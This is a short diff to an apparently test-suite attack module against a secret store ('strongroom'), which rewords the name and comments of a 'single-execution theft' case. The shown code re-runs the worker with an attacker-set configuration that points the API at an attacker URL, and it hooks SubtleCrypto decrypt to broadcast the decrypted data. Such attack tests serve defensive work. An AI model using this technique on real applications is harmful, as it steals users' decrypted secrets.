@@ -1,7 +1,7 @@
 import { attack } from "../attack.js";
 
 export default attack({
-  name: "a forged copy of the worker with a configuration of the attacker's",
+  name: "runs the worker's code with its own configuration",
   threat: "single-execution theft",
   target: "strongroom",
   async payload(it) {
@@ -15,7 +15,7 @@ export default attack({
       scopes: it.scope.split(" "),
       api: [{ url: `${it.attackerUrl}/` }, { url: it.apiUrl }],
     };
-    // The genuine code, in a worker that notes what comes in and what is opened.
+    // The genuine code, in a worker that records responses and decrypted data.
     const script = `
       const tell = (...values) => new BroadcastChannel("forged").postMessage(values.map(String));
       const { decrypt } = SubtleCrypto.prototype;
@@ -41,7 +41,7 @@ export default attack({
         try {
           new window[kind](it.scriptUrl(url));
         } catch {
-          // The page's policy has a say in what a worker may be.
+          // The page's policy refuses the worker.
         }
       }
     }
